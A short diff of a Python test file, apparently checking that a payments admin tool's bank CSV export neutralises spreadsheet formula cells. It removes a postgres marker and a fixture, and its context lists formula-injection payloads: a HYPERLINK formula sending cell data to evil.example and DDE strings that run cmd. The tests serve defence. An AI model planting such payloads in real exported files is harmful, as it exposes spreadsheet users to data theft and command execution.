@@ -15,15 +15,9 @@ from clients.admin_cli import BANK_CSV_COLUMNS, write_bank_csv
 from cobalt.payments.v1 import payments_pb2 as pb
 from server.domain.csv_cells import FORMULA_LEADS, text_cell
 
-pytestmark = pytest.mark.postgres
-
 FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"Click")', "+SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|'/C calc'!A0",
             "@SUM(1,1)"]
 
-
-@pytest.fixture
-def server(pg_server: RunningServer) -> RunningServer:
-    return pg_server
 
 
 def runs_as_formula(cell: str) -> bool:
